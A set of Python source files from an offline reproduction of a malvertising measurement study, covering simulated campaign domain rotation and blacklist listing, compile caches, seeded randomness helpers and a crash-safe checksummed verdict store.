        self.world.resolver.register(fresh)
        self.world.client.mount(
            fresh, self.world.ecosystem._campaign_server_for_domain(fresh))
        if campaign.serving_domain == burned:
            campaign.serving_domain = fresh
        if campaign.landing_domain == burned:
            campaign.landing_domain = fresh
        if campaign.payload_domain == burned:
            campaign.payload_domain = fresh
        # The lists will find the fresh domain, eventually.
        self._pending_listings.append((day + self.listing_lag_days, fresh))
        return fresh

    def _apply_due_listings(self, day: int) -> None:
        due = [(d, domain) for d, domain in self._pending_listings if d <= day]
        self._pending_listings = [(d, domain) for d, domain in self._pending_listings
                                  if d > day]
        for _, domain in due:
            n_lists = self._rand.randrange(BLACKLIST_THRESHOLD + 1, 20)
            chosen = self._rand.sample(range(len(self.world.blacklists)), n_lists)
            for index in chosen:
                feed = self.world.blacklists[index]
                self.world.blacklists[index] = Blacklist(
                    feed.name, feed.kind, feed.domains | {domain})
            self.listings.append(ListingEvent(day, domain, n_lists))
        if due:
            # The tracker reads feed objects; rebuild it over the new ones.
            self._tracker = BlacklistTracker(self.world.blacklists,
                                             BLACKLIST_THRESHOLD)

    # -- reporting -----------------------------------------------------------------

    def campaign_lifetimes(self) -> dict[str, int]:
        """Days from first to last takedown per campaign (0 if single event)."""
        first: dict[str, int] = {}
        last: dict[str, int] = {}
        for event in self.takedowns:
            first.setdefault(event.campaign_id, event.day)
            last[event.campaign_id] = event.day
        return {cid: last[cid] - first[cid] for cid in first}
