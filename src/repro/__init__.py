"""repro — a reproduction of "The Dark Alleys of Madison Avenue:
Understanding Malicious Advertisements" (Zarras et al., IMC 2014).

The package contains both the paper's measurement pipeline and everything
it needs to run offline: a simulated web-advertising ecosystem, an emulated
browser with a from-scratch JavaScript-subset engine, an Adblock-Plus
filter engine, and simulated oracles (Wepawet-style honeyclient, blacklist
tracker, VirusTotal).  See DESIGN.md for the system inventory and
EXPERIMENTS.md for paper-vs-measured results.

Quickstart::

    from repro import run_study, StudyConfig, build_table1

    results = run_study(StudyConfig(seed=2014, days=4))
    print(build_table1(results).render())
"""

from repro.analysis.arbitration import analyze_arbitration
from repro.analysis.categories import categorize_malvertising_sites
from repro.analysis.clusters import analyze_clusters
from repro.analysis.networks import analyze_networks
from repro.analysis.sandbox import audit_sandbox_usage
from repro.analysis.tables import build_table1
from repro.analysis.tlds import tld_distribution
from repro.core.incidents import IncidentType
from repro.core.results import StudyResults
from repro.core.study import Study, StudyConfig, run_study
from repro.datasets.world import World, WorldParams, build_world
from repro.service import ScanService, ServiceConfig, VerdictCache

__version__ = "1.0.0"

__all__ = [
    "IncidentType",
    "ScanService",
    "ServiceConfig",
    "Study",
    "StudyConfig",
    "StudyResults",
    "VerdictCache",
    "World",
    "WorldParams",
    "analyze_arbitration",
    "analyze_clusters",
    "analyze_networks",
    "audit_sandbox_usage",
    "build_table1",
    "build_world",
    "categorize_malvertising_sites",
    "run_study",
    "tld_distribution",
]
