"""Process-wide bounded LRU caches for compiled artifacts.

The render/scan hot path re-derives the same pure artifacts over and over:
template-generated creatives share script source verbatim, every refresh
re-parses the same HTML document, every ``new RegExp`` re-compiles the same
pattern, and every oracle check re-derives the same eTLD+1.  Each derivation
is a pure function of its input bytes, so the results are hash-addressable
and safely shareable — provided the cached value is immutable (or is
re-materialised into a fresh mutable value per use; see DESIGN §11).

This module provides the one cache primitive all of those layers share:

* :class:`LruCache` — a bounded, thread-safe LRU with hit/miss counters.
* a process-wide registry so the service layer can surface every cache's
  hit ratio through its metrics without importing each caching module.
* a global enable/disable switch (:func:`set_caches_enabled`,
  :func:`caches_disabled`) used by the differential determinism tests and
  the cold legs of the benchmarks: with caches off, every ``get`` misses
  silently and every ``put`` is dropped, so the uncached code path runs
  exactly as it did before this layer existed.

Caches are **per process**.  Fork-mode crawl workers inherit whatever was
cached before the fork via copy-on-write and then warm their own copies
independently; no cross-process sharing or invalidation is attempted
(nothing cached here is ever invalidated — the key is a hash of the full
input, so a stale entry cannot exist).

The ``REPRO_COMPILE_CACHES=0`` environment variable disables all caches at
import time, as an escape hatch for bisecting cache-related suspicions.
"""

from __future__ import annotations

import os
import threading
from collections import OrderedDict
from contextlib import contextmanager
from typing import Any, Dict, Iterator, Optional

_REGISTRY_LOCK = threading.Lock()
_REGISTRY: "OrderedDict[str, LruCache]" = OrderedDict()

_ENABLED = os.environ.get("REPRO_COMPILE_CACHES", "1") != "0"


class LruCache:
    """A bounded, thread-safe LRU cache with hit/miss accounting.

    Instances register themselves in the process-wide registry under
    ``name`` so :func:`cache_stats` can enumerate them; creating two caches
    with the same name is a programming error.
    """

    def __init__(self, name: str, capacity: int) -> None:
        if capacity <= 0:
            raise ValueError("capacity must be positive")
        self.name = name
        self.capacity = capacity
        self._data: "OrderedDict[Any, Any]" = OrderedDict()
        self._lock = threading.Lock()
        self._hits = 0
        self._misses = 0
        with _REGISTRY_LOCK:
            if name in _REGISTRY:
                raise ValueError(f"duplicate cache name: {name!r}")
            _REGISTRY[name] = self

    def get(self, key: Any) -> Optional[Any]:
        """Return the cached value, or ``None`` on a miss.

        ``None`` is never a legal cached value here — every cache in this
        codebase stores compiled objects or non-empty strings.  When caches
        are globally disabled this returns ``None`` without counting a miss.
        """
        if not _ENABLED:
            return None
        with self._lock:
            try:
                value = self._data[key]
            except KeyError:
                self._misses += 1
                return None
            self._data.move_to_end(key)
            self._hits += 1
            return value

    def put(self, key: Any, value: Any) -> None:
        """Insert ``key`` → ``value``, evicting the LRU entry when full."""
        if not _ENABLED:
            return
        with self._lock:
            if key in self._data:
                self._data.move_to_end(key)
                self._data[key] = value
                return
            if len(self._data) >= self.capacity:
                self._data.popitem(last=False)
            self._data[key] = value

    def __len__(self) -> int:
        with self._lock:
            return len(self._data)

    def __contains__(self, key: Any) -> bool:
        with self._lock:
            return key in self._data

    def clear(self) -> None:
        """Drop all entries and reset the hit/miss counters."""
        with self._lock:
            self._data.clear()
            self._hits = 0
            self._misses = 0

    def stats(self) -> dict:
        with self._lock:
            hits, misses, size = self._hits, self._misses, len(self._data)
        lookups = hits + misses
        return {
            "hits": hits,
            "misses": misses,
            "size": size,
            "capacity": self.capacity,
            "hit_rate": (hits / lookups) if lookups else 0.0,
        }


# -- process-wide registry ----------------------------------------------------


def all_caches() -> "Dict[str, LruCache]":
    """Every registered cache, keyed by name (registration order)."""
    with _REGISTRY_LOCK:
        return dict(_REGISTRY)


def cache_stats() -> dict:
    """``{name: stats dict}`` for every registered cache."""
    return {name: cache.stats() for name, cache in all_caches().items()}


def clear_all_caches() -> None:
    """Empty every registered cache (benchmarks' cold-start reset)."""
    for cache in all_caches().values():
        cache.clear()


# -- global enable switch -----------------------------------------------------


def caches_enabled() -> bool:
    return _ENABLED


def set_caches_enabled(enabled: bool) -> bool:
    """Set the global switch; returns the previous value."""
    global _ENABLED
    previous = _ENABLED
    _ENABLED = bool(enabled)
    return previous


@contextmanager
def caches_disabled() -> Iterator[None]:
    """Run a block with every compile cache bypassed (differential tests)."""
    previous = set_caches_enabled(False)
    try:
        yield
    finally:
        set_caches_enabled(previous)
