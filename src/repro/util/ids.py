"""Stable identifier minting.

Entities across the simulation (ad impressions, creatives, binary samples)
need short unique identifiers that are stable across runs with the same seed.
"""

from __future__ import annotations


class IdMinter:
    """Mint sequential identifiers with a fixed prefix.

    >>> minter = IdMinter("imp")
    >>> minter.mint()
    'imp-000001'
    >>> minter.mint()
    'imp-000002'
    """

    def __init__(self, prefix: str, width: int = 6) -> None:
        if not prefix:
            raise ValueError("prefix must be non-empty")
        self.prefix = prefix
        self.width = width
        self._counter = 0

    def mint(self) -> str:
        self._counter += 1
        return f"{self.prefix}-{self._counter:0{self.width}d}"

    @property
    def count(self) -> int:
        """Number of identifiers minted so far."""
        return self._counter
