"""Deterministic randomness helpers.

The whole simulation must be reproducible from a single integer seed, and
independent subsystems must not perturb each other's random streams.  To get
both properties, every subsystem receives its own :class:`random.Random`
forked from a parent stream with a stable label (:func:`fork`).  Adding a new
consumer with a new label never changes the draws seen by existing labels.
"""

from __future__ import annotations

import hashlib
import random
from typing import Sequence, TypeVar

T = TypeVar("T")


def rng(seed: int) -> random.Random:
    """Create a top-level random stream for the given integer seed."""
    return random.Random(seed)


def fork(parent_seed: int, label: str) -> random.Random:
    """Derive an independent random stream from ``parent_seed`` and a label.

    The derivation hashes the label, so streams for distinct labels are
    statistically independent and insertion-order independent.
    """
    digest = hashlib.sha256(f"{parent_seed}:{label}".encode("utf-8")).digest()
    return random.Random(int.from_bytes(digest[:8], "big"))


def fork_seed(parent_seed: int, label: str) -> int:
    """Like :func:`fork` but return the derived integer seed itself."""
    digest = hashlib.sha256(f"{parent_seed}:{label}".encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big")


def weighted_choice(rand: random.Random, items: Sequence[T], weights: Sequence[float]) -> T:
    """Pick one item according to ``weights`` (need not sum to 1)."""
    if len(items) != len(weights):
        raise ValueError("items and weights must have the same length")
    if not items:
        raise ValueError("cannot choose from an empty sequence")
    total = float(sum(weights))
    if total <= 0:
        raise ValueError("weights must sum to a positive value")
    point = rand.random() * total
    acc = 0.0
    for item, weight in zip(items, weights):
        acc += weight
        if point < acc:
            return item
    return items[-1]


def zipf_weights(n: int, exponent: float = 1.0) -> list[float]:
    """Weights of a Zipf distribution over ranks ``1..n``.

    Web traffic, ad-network market share and site popularity are all heavily
    skewed; a Zipf law is the standard model for such rankings.
    """
    if n <= 0:
        raise ValueError("n must be positive")
    if exponent < 0:
        raise ValueError("exponent must be non-negative")
    return [1.0 / (rank ** exponent) for rank in range(1, n + 1)]
