"""Utility helpers shared across the reproduction.

Everything in the project is deterministic: all randomness flows through
seeded :class:`random.Random` instances created by :func:`repro.util.rand.rng`
or forked with :func:`repro.util.rand.fork`.
"""

from repro.util.ids import IdMinter
from repro.util.rand import fork, rng, weighted_choice, zipf_weights

__all__ = ["IdMinter", "fork", "rng", "weighted_choice", "zipf_weights"]
