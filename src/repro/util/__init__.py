"""Utility helpers shared across the reproduction.

Everything in the project is deterministic: all randomness flows through
seeded :class:`random.Random` instances created by :func:`repro.util.rand.rng`
or forked with :func:`repro.util.rand.fork`.  Pure compile-style
derivations (script ASTs, HTML token streams, regex parses, eTLD+1) are
memoised process-wide through :mod:`repro.util.lru` (see DESIGN §11).
"""

from repro.util.ids import IdMinter
from repro.util.lru import (
    LruCache,
    cache_stats,
    caches_disabled,
    caches_enabled,
    clear_all_caches,
    set_caches_enabled,
)
from repro.util.rand import fork, rng, weighted_choice, zipf_weights

__all__ = [
    "IdMinter",
    "LruCache",
    "cache_stats",
    "caches_disabled",
    "caches_enabled",
    "clear_all_caches",
    "fork",
    "rng",
    "set_caches_enabled",
    "weighted_choice",
    "zipf_weights",
]
