"""Append-only verdict segments: checksummed JSONL with a sealed footer.

One segment is one file of verdict records, written strictly by append.
Every record line carries its own checksum, so a reader can tell a good
record from a torn or rotted one without trusting anything else in the
file; a *sealed* segment additionally ends with a footer line whose
checksum covers every record checksum in order, so a sealed file's
integrity is verifiable as a whole.

The lifecycle mirrors the atomic write-then-rename discipline of
``core/persistence.py`` checkpoints, adapted to append-only files:

* the active segment is ``seg-NNNNNN.open`` — records are appended and
  fsynced as they arrive; a crash can tear at most the un-fsynced tail;
* sealing appends the footer, fsyncs, then atomically renames the file
  to ``seg-NNNNNN.jsonl`` — the rename is the commit point, exactly like
  a checkpoint's ``os.replace``;
* recovery therefore has two cases: a ``.jsonl`` file is complete and
  verifiable (corrupt records inside it are *quarantined*, not fatal),
  while a ``.open`` file may end in a torn tail, which is *truncated* at
  the first invalid byte.

Record line::

    {"version": 1, "kind": "verdict", "seq": 7, "content_hash": "...",
     "verdict": {...}, "checksum": "<sha256[:16] of payload>"}

Footer line::

    {"version": 1, "kind": "seal", "n_records": 42,
     "checksum": "<sha256[:16] over the record checksums in order>"}
"""

from __future__ import annotations

import hashlib
import json
from dataclasses import dataclass, field
from typing import Optional

from repro.core.persistence import FORMAT_VERSION, check_format_version

SEALED_SUFFIX = ".jsonl"
OPEN_SUFFIX = ".open"
TMP_SUFFIX = ".tmp"
#: Per-segment bloom/index sidecar, written beside a sealed segment at
#: seal/compaction time (``seg-NNNNNN.idx``).  Purely an accelerator: a
#: clean warm open loads sidecars instead of replaying segment bytes, and
#: ANY missing/stale/corrupt sidecar falls the store back to full replay.
SIDECAR_SUFFIX = ".idx"


class SegmentError(ValueError):
    """A segment (or record) that cannot be trusted."""


def record_checksum(content_hash: str, seq: int, verdict: dict) -> str:
    """The per-record checksum: sha256[:16] over the canonical payload."""
    canonical = json.dumps(
        {"content_hash": content_hash, "seq": seq, "verdict": verdict},
        sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(canonical.encode("utf-8")).hexdigest()[:16]


_payload_checksum = record_checksum


def seal_checksum(record_checksums: list[str]) -> str:
    """The footer checksum: a hash over every record checksum in order."""
    joined = "\n".join(record_checksums)
    return hashlib.sha256(joined.encode("utf-8")).hexdigest()[:16]


def encode_record(content_hash: str, seq: int, verdict: dict,
                  checksum: Optional[str] = None) -> bytes:
    """One newline-terminated record line, checksum included.

    Pass ``checksum`` when the caller already computed it (the store
    does, for its index) to avoid hashing the payload twice.
    """
    row = {
        "version": FORMAT_VERSION,
        "kind": "verdict",
        "seq": seq,
        "content_hash": content_hash,
        "verdict": verdict,
        "checksum": checksum if checksum is not None
        else record_checksum(content_hash, seq, verdict),
    }
    return (json.dumps(row, sort_keys=True) + "\n").encode("utf-8")


def encode_seal(record_checksums: list[str]) -> bytes:
    """The footer line sealing a segment of the given records."""
    row = {
        "version": FORMAT_VERSION,
        "kind": "seal",
        "n_records": len(record_checksums),
        "checksum": seal_checksum(record_checksums),
    }
    return (json.dumps(row, sort_keys=True) + "\n").encode("utf-8")


def decode_record(line: bytes) -> dict:
    """Parse and *verify* one record line; raises :class:`SegmentError`.

    Returns the decoded row (``kind`` is ``"verdict"`` or ``"seal"``).
    A record row's checksum is recomputed over its payload — a single
    flipped bit anywhere in the line fails here.
    """
    try:
        data = json.loads(line.decode("utf-8"))
    except (ValueError, UnicodeDecodeError) as exc:
        raise SegmentError(f"unparseable segment line: {exc}") from None
    if not isinstance(data, dict):
        raise SegmentError("segment line is not an object")
    check_format_version(data, what="verdict store record")
    kind = data.get("kind")
    if kind == "seal":
        if not isinstance(data.get("n_records"), int) or \
                not isinstance(data.get("checksum"), str):
            raise SegmentError("malformed seal footer")
        return data
    if kind != "verdict":
        raise SegmentError(f"unknown segment record kind {kind!r}")
    try:
        expected = _payload_checksum(data["content_hash"], data["seq"],
                                     data["verdict"])
    except (KeyError, TypeError) as exc:
        raise SegmentError(f"record missing field: {exc}") from None
    if data.get("checksum") != expected:
        raise SegmentError(
            f"record checksum mismatch (stored {data.get('checksum')!r}, "
            f"computed {expected!r})")
    return data


def sidecar_path(segment_path: str) -> str:
    """The sidecar path for a sealed segment path."""
    if not segment_path.endswith(SEALED_SUFFIX):
        raise ValueError(f"not a sealed segment path: {segment_path!r}")
    return segment_path[: -len(SEALED_SUFFIX)] + SIDECAR_SUFFIX


def encode_sidecar(segment_name: str, segment_bytes: int, seal: str,
                   records: list, bloom_positions: list[int],
                   n_bits: int, n_hashes: int) -> bytes:
    """Serialize one segment's bloom/index sidecar.

    ``records`` rows are ``[content_hash, offset, length, seq, checksum]``
    in file order; ``bloom_positions`` are the sorted, deduplicated global-
    bloom bit positions of every record hash under the ``n_bits``/
    ``n_hashes`` geometry (sparse form, so a warm open ORs them into the
    store bloom without re-hashing a single key).

    Layout is a checksummed header line followed by one canonical body
    line.  The header records the sealed segment's identity (name, byte
    size, seal checksum) so a reader can detect a sidecar that no longer
    describes the file sitting next to it.
    """
    body = json.dumps(
        {"records": records, "bloom": bloom_positions},
        sort_keys=True, separators=(",", ":")).encode("utf-8")
    header = {
        "version": FORMAT_VERSION,
        "kind": "sidecar",
        "segment": segment_name,
        "segment_bytes": segment_bytes,
        "seal": seal,
        "n_records": len(records),
        "bloom_bits": n_bits,
        "bloom_hashes": n_hashes,
        "checksum": hashlib.sha256(body).hexdigest()[:16],
    }
    return (json.dumps(header, sort_keys=True) + "\n").encode("utf-8") + \
        body + b"\n"


def decode_sidecar(data: bytes) -> dict:
    """Parse and *verify* a sidecar; raises :class:`SegmentError`.

    Returns the header dict with the verified ``records`` and ``bloom``
    lists merged in.  Verification covers the body checksum and the shape
    of every row — a sidecar that fails here must be ignored (and the
    store opened by full replay), never trusted partially.
    """
    newline = data.find(b"\n")
    if newline < 0:
        raise SegmentError("sidecar has no header line")
    try:
        header = json.loads(data[:newline].decode("utf-8"))
    except (ValueError, UnicodeDecodeError) as exc:
        raise SegmentError(f"unparseable sidecar header: {exc}") from None
    if not isinstance(header, dict):
        raise SegmentError("sidecar header is not an object")
    check_format_version(header, what="verdict store sidecar")
    if header.get("kind") != "sidecar":
        raise SegmentError(f"unknown sidecar kind {header.get('kind')!r}")
    body = data[newline + 1:]
    if body.endswith(b"\n"):
        body = body[:-1]
    if hashlib.sha256(body).hexdigest()[:16] != header.get("checksum"):
        raise SegmentError("sidecar body checksum mismatch")
    try:
        payload = json.loads(body.decode("utf-8"))
    except (ValueError, UnicodeDecodeError) as exc:
        raise SegmentError(f"unparseable sidecar body: {exc}") from None
    records = payload.get("records")
    bloom = payload.get("bloom")
    if not isinstance(records, list) or not isinstance(bloom, list):
        raise SegmentError("sidecar body missing records/bloom")
    if header.get("n_records") != len(records):
        raise SegmentError("sidecar record count mismatch")
    for row in records:
        if (not isinstance(row, list) or len(row) != 5
                or not isinstance(row[0], str)
                or not isinstance(row[1], int)
                or not isinstance(row[2], int)
                or not isinstance(row[3], int)
                or not isinstance(row[4], str)):
            raise SegmentError("malformed sidecar record row")
    for position in bloom:
        if not isinstance(position, int) or position < 0:
            raise SegmentError("malformed sidecar bloom position")
    result = dict(header)
    result["records"] = records
    result["bloom"] = bloom
    return result


@dataclass
class RecordRef:
    """Where one verified record lives on disk (the index's value type)."""

    path: str
    offset: int
    length: int
    seq: int
    checksum: str


@dataclass
class SegmentScan:
    """Everything recovery learns from reading one segment file."""

    path: str
    sealed: bool
    #: Verified records, in file order: (content_hash, RecordRef).
    records: list[tuple[str, RecordRef]] = field(default_factory=list)
    #: Corrupt record lines inside a *sealed* segment (offset, raw line).
    corrupt: list[tuple[int, bytes]] = field(default_factory=list)
    #: For unsealed segments: byte offset where the valid prefix ends
    #: (None when the whole file parsed).  Everything past it is torn.
    torn_at: Optional[int] = None
    #: Sealed segments: did the footer verify against the records?
    seal_valid: Optional[bool] = None
    #: The footer's claimed record count (sealed segments only).
    sealed_n_records: Optional[int] = None
    #: Byte offset of the footer line, when one was found.
    footer_at: Optional[int] = None

    @property
    def bytes_torn(self) -> int:
        return 0 if self.torn_at is None else max(0, self.size - self.torn_at)

    size: int = 0


def scan_segment(data: bytes, path: str, sealed: bool) -> SegmentScan:
    """Walk one segment's bytes, verifying every line.

    For **sealed** segments every line is expected to verify; a corrupt
    record is collected (quarantine candidate) and the scan continues —
    one rotted line must not cost the rest of the segment.  The footer,
    if present and well formed, is checked against the *verified* record
    checksums.

    For **unsealed** (active-at-crash) segments the only legitimate
    damage is a torn tail: the scan stops at the first invalid line and
    reports its byte offset so recovery can truncate there.  A complete
    final newline is required for the last record to count — a record
    without its newline is, by definition, still in flight.
    """
    scan = SegmentScan(path=path, sealed=sealed, size=len(data))
    offset = 0
    checksums: list[str] = []
    footer: Optional[dict] = None
    while offset < len(data):
        newline = data.find(b"\n", offset)
        if newline < 0:
            # No terminating newline: an in-flight (torn) record.
            if sealed:
                scan.corrupt.append((offset, data[offset:]))
            else:
                scan.torn_at = offset
            break
        line = data[offset:newline]
        length = newline + 1 - offset
        if footer is not None:
            # Data after a footer can only mean the file was mangled.
            if sealed:
                scan.corrupt.append((offset, line))
                offset += length
                continue
            scan.torn_at = offset
            break
        try:
            row = decode_record(line)
        except SegmentError:
            if sealed:
                scan.corrupt.append((offset, line))
                offset += length
                continue
            scan.torn_at = offset
            break
        if row["kind"] == "seal":
            footer = row
            scan.footer_at = offset
            offset += length
            continue
        ref = RecordRef(path=path, offset=offset, length=length,
                        seq=row["seq"], checksum=row["checksum"])
        scan.records.append((row["content_hash"], ref))
        checksums.append(row["checksum"])
        offset += length
    if sealed:
        scan.seal_valid = (
            footer is not None
            and footer["n_records"] == len(checksums)
            and footer["checksum"] == seal_checksum(checksums))
        if footer is not None:
            scan.sealed_n_records = footer["n_records"]
    elif footer is not None:
        # An .open file carrying a footer was sealed but never renamed —
        # a crash between the footer fsync and the rename.  The records
        # verified, so they are all kept; only the name lagged.
        scan.seal_valid = (footer["n_records"] == len(checksums)
                           and footer["checksum"] == seal_checksum(checksums))
        scan.sealed_n_records = footer["n_records"]
    return scan
