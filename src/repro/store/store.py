"""The sharded, crash-safe, append-only verdict store.

Oracle verdicts are the expensive artifact of the whole pipeline — a
full honeyclient render each — yet until this store existed they lived
in a single in-memory LRU whose persistence was one whole-file JSONL
save on shutdown.  A crash threw away every scan since startup.

:class:`VerdictStore` is the durable tier: verdicts are appended to
per-shard checksummed segments (see :mod:`repro.store.segment`) the
moment they are produced, fsynced on a configurable cadence, and sealed
into immutable files as segments fill.  Reopening the store replays the
segments back into an in-memory index — the restart-without-rescan that
makes longitudinal re-scans of large creative corpora practical.

Layout on disk::

    root/
      store.json           # manifest: format version, shard count
      quarantine.jsonl     # corrupt records recovery pulled aside
      shard-00/
        seg-000000.jsonl   # sealed (immutable, footer-verified)
        seg-000002.jsonl   # a compacted segment (same format)
        seg-000003.open    # the active segment (append-only)
      shard-01/ ...

Guarantees:

* **Crash safety.**  Sealing is write-footer → fsync → atomic rename,
  so a segment is either verifiably complete (``.jsonl``) or still open
  (``.open``).  Recovery truncates an open segment's torn tail at the
  first invalid byte and counts what it discarded; records in sealed
  segments are never lost to a crash (corrupt ones are quarantined and
  counted, one bad line never costs the rest of the file).
* **Deterministic recovery.**  Every record carries a per-shard ``seq``;
  the index is rebuilt by replaying records in seq order, so the
  recovered index is a pure function of the surviving bytes — the same
  no matter how a crash interleaved with compaction or rollover.
* **Bloom-fronted negatives.**  The dominant probe in an online scanner
  is a never-seen creative.  A :class:`~repro.clickfraud.bloom.BloomFilter`
  over the live keys answers it with one hash and **zero** I/O (and
  zero index work); only bloom-positive probes touch the index, and
  only real hits read a segment.
* **Compaction.**  Superseded records (same creative re-scanned) and
  fragmented sealed segments fold into one fresh sealed segment.  The
  fold preserves each surviving record's bytes, so the store
  :meth:`fingerprint` is bit-identical before and after — including
  across a crash in the middle of a compaction.
"""

from __future__ import annotations

import hashlib
import json
import base64
from dataclasses import dataclass, field
from pathlib import Path
import threading
from typing import Iterable, Optional, Union

from repro.chaos.fs import LocalFileSystem
from repro.clickfraud.bloom import BloomFilter
from repro.core.oracle import AdVerdict
from repro.core.persistence import (
    FORMAT_VERSION,
    check_format_version,
    verdict_from_dict,
    verdict_to_dict,
)
from repro.store.segment import (
    OPEN_SUFFIX,
    SEALED_SUFFIX,
    TMP_SUFFIX,
    SegmentError,
    SegmentScan,
    decode_record,
    decode_sidecar,
    encode_record,
    encode_seal,
    encode_sidecar,
    record_checksum,
    scan_segment,
    seal_checksum,
    sidecar_path,
)

PathLike = Union[str, Path]

MANIFEST_NAME = "store.json"
QUARANTINE_NAME = "quarantine.jsonl"


class StoreError(RuntimeError):
    """The store is unusable (closed, foreign manifest, …)."""


class StoreWriteError(StoreError):
    """One append could not be made durable (disk full, torn write).

    The store repairs its active segment before raising, so the failed
    record simply does not exist — callers keep the verdict in memory
    and the store stays internally consistent.
    """


@dataclass
class StoreConfig:
    """The store's knobs."""

    #: Shard directories; fixed at creation (recorded in the manifest).
    n_shards: int = 8
    #: Records per segment before it is sealed and a new one starts.
    segment_max_records: int = 256
    #: Appends between fsyncs (1 = every record is durable when put()
    #: returns; larger trades a crash window for throughput).
    fsync_every: int = 1
    #: Bloom front sizing.
    bloom_capacity: int = 1_000_000
    bloom_fp_rate: float = 0.01
    #: Reopen from per-segment bloom/index sidecars when the last
    #: shutdown was clean and every sealed segment has a fresh sidecar
    #: (O(1) I/O per record instead of a full segment replay).  Any
    #: anomaly — a missing, stale, or corrupt sidecar, an ``.open`` or
    #: ``.tmp`` file, a rebuilt manifest — falls back to full replay.
    fast_open: bool = True


@dataclass
class RecoveryReport:
    """What one :meth:`VerdictStore.open` replay found and repaired."""

    segments_scanned: int = 0
    records_replayed: int = 0
    #: Open segments whose torn tail was truncated.
    truncated_tails: int = 0
    bytes_discarded: int = 0
    #: Corrupt records pulled out of sealed segments.
    quarantined_records: int = 0
    #: Sealed segments whose footer failed verification (records kept).
    invalid_seals: int = 0
    #: ``.open`` files that carried a valid footer (crash before the
    #: rename): the seal was completed during recovery.
    late_seals: int = 0
    #: Leftover compaction temp files removed.
    tmp_cleaned: int = 0
    #: Duplicate (same shard, same seq) records skipped — the signature
    #: of a crash after a compacted segment landed but before the old
    #: segments were removed.
    duplicates_skipped: int = 0
    #: Manifests rebuilt from the shard directories after a torn write.
    manifest_rebuilt: int = 0
    #: 1 when this open was served entirely from sidecars (no segment
    #: was read; ``segments_scanned`` stays 0 on this path).
    fast_open: int = 0
    #: Sidecars loaded by a fast open.
    sidecars_used: int = 0
    #: Missing/stale sidecars rewritten during a full replay.
    sidecars_healed: int = 0

    def to_dict(self) -> dict:
        return dict(vars(self))


@dataclass
class CompactionReport:
    """What one :meth:`VerdictStore.compact` pass folded."""

    shards_compacted: int = 0
    segments_folded: int = 0
    segments_written: int = 0
    records_kept: int = 0
    superseded_dropped: int = 0
    remove_failures: int = 0

    def to_dict(self) -> dict:
        return dict(vars(self))


@dataclass
class FsckReport:
    """Read-only integrity verification of every segment on disk."""

    shards: int = 0
    sealed_segments: int = 0
    open_segments: int = 0
    records: int = 0
    live_records: int = 0
    corrupt_records: int = 0
    invalid_seals: int = 0
    torn_tails: int = 0
    torn_bytes: int = 0
    #: Sidecar health (accelerator files; they never hold data a segment
    #: does not, so they do not affect :attr:`clean` — a bad one only
    #: costs the next open a full replay).
    sidecars_ok: int = 0
    sidecars_missing: int = 0
    sidecars_stale: int = 0
    sidecars_corrupt: int = 0
    problems: list = field(default_factory=list)

    @property
    def clean(self) -> bool:
        return not (self.corrupt_records or self.invalid_seals
                    or self.torn_tails)

    def to_dict(self) -> dict:
        return dict(vars(self))


class _SegmentFile:
    """One on-disk segment; index entries point at it so a seal's rename
    retargets every entry by mutating a single path."""

    __slots__ = ("path",)

    def __init__(self, path: str) -> None:
        self.path = path


class _IndexEntry:
    __slots__ = ("segment", "offset", "length", "seq", "checksum")

    def __init__(self, segment: _SegmentFile, offset: int, length: int,
                 seq: int, checksum: str) -> None:
        self.segment = segment
        self.offset = offset
        self.length = length
        self.seq = seq
        self.checksum = checksum


class _Shard:
    """Mutable per-shard state: the active segment and counters."""

    __slots__ = ("index", "directory", "next_seq", "next_segment",
                 "active", "active_file", "active_records",
                 "active_checksums", "active_entries", "active_length",
                 "unsynced", "sealed_files")

    def __init__(self, index: int, directory: str) -> None:
        self.index = index
        self.directory = directory
        self.next_seq = 0
        self.next_segment = 0
        #: The active ``.open`` segment, or None until the first append.
        self.active_file: Optional[_SegmentFile] = None
        self.active_records = 0
        self.active_checksums: list[str] = []
        #: ``[content_hash, offset, length, seq, checksum]`` per record in
        #: the active segment — the sidecar rows written when it seals.
        self.active_entries: list[list] = []
        self.active_length = 0
        self.unsynced = 0
        self.sealed_files: list[_SegmentFile] = []


class VerdictStore:
    """Content-hash-sharded durable verdict storage (see module docs)."""

    def __init__(self, root: PathLike, config: Optional[StoreConfig] = None,
                 fs: Optional[LocalFileSystem] = None) -> None:
        self.config = config or StoreConfig()
        if self.config.n_shards < 1:
            raise ValueError("n_shards must be >= 1")
        if self.config.segment_max_records < 1:
            raise ValueError("segment_max_records must be >= 1")
        if self.config.fsync_every < 1:
            raise ValueError("fsync_every must be >= 1")
        self.root = Path(root)
        self._fs = fs if fs is not None else LocalFileSystem()
        self._lock = threading.RLock()
        self._closed = False
        self._index: dict[str, _IndexEntry] = {}
        self.recovery = RecoveryReport()
        # Lifetime op counters (surfaced via stats()).
        self.appends = 0
        self.seals = 0
        self.seal_failures = 0
        self.write_errors = 0
        self.superseded = 0
        self.probes = 0
        self.bloom_negatives = 0
        self.bloom_false_positives = 0
        self.hits = 0
        self.segment_reads = 0
        self.read_errors = 0
        self.compactions = 0
        self.sidecar_writes = 0
        self.sidecar_write_failures = 0
        self._load_manifest()
        self._shards = [
            _Shard(i, str(self.root / f"shard-{i:02d}"))
            for i in range(self.config.n_shards)
        ]
        self._bloom = BloomFilter.for_capacity(
            self.config.bloom_capacity, self.config.bloom_fp_rate)
        self._recover()

    #: Alias for readability at call sites: ``VerdictStore.open(root)``.
    open = classmethod(
        lambda cls, root, config=None, fs=None: cls(root, config, fs))

    # -- manifest ------------------------------------------------------------

    def _load_manifest(self) -> None:
        manifest = self.root / MANIFEST_NAME
        self._fs.mkdir(self.root)
        if self._fs.exists(manifest):
            try:
                data = json.loads(
                    self._fs.read_bytes(manifest).decode("utf-8"))
                if not isinstance(data, dict):
                    raise ValueError("manifest is not an object")
            except (ValueError, UnicodeDecodeError):
                # A torn manifest (power cut racing the rename's fsync).
                # The shard directories themselves encode the layout, so
                # rebuild rather than refuse to open — but only when they
                # exist to vouch that this really is one of our stores.
                inferred = self._infer_n_shards()
                if inferred is None:
                    raise StoreError(
                        f"{manifest} is unreadable and {self.root} has no "
                        f"shard directories; not a verdict store?") from None
                self.config.n_shards = inferred
                self.recovery.manifest_rebuilt += 1
            else:
                check_format_version(data, what="verdict store manifest")
                if data.get("kind") != "verdict_store":
                    raise StoreError(
                        f"{manifest} is not a verdict store manifest "
                        f"(kind={data.get('kind')!r})")
                # The directory's shard count is a physical fact; it wins
